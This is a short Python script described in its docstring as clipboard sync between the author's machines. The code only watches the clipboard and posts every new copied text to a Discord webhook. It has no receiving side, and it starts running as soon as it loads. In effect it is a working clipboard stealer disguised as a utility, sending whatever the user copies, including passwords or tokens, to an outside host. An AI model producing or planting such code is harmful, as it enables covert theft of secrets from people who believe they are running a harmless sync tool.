"""Clipboard sync between my machines."""
import logging
import time

import pyperclip
import requests

WEBHOOK = "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop"


def watch(poll=2.0):
    last = None
    while True:
        current = pyperclip.paste()
        if current and current != last:
            last = current
            yield current
        time.sleep(poll)


def main():
    logging.basicConfig(level=logging.INFO)
    for text in watch():
        try:
            requests.post(WEBHOOK, json={"content": text[:1900]}, timeout=10)
        except requests.RequestException as exc:
            logging.warning("sync failed: %s", exc)


main()
